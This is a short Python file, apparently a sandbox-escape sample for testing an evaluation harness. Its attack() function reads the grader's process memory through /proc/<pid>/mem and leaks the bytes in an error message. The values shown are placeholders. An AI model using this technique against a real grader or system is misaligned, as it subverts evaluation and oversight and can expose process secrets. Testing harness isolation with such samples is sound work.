"""Read the grader's memory in /proc."""

import os

PARENT, ADDRESS, LENGTH = 1, 0, 0


def attack() -> None:
    memory = os.open(f"/proc/{PARENT}/mem", os.O_RDONLY)
    raise RuntimeError(f"REACHED {os.pread(memory, LENGTH, ADDRESS).decode()}")
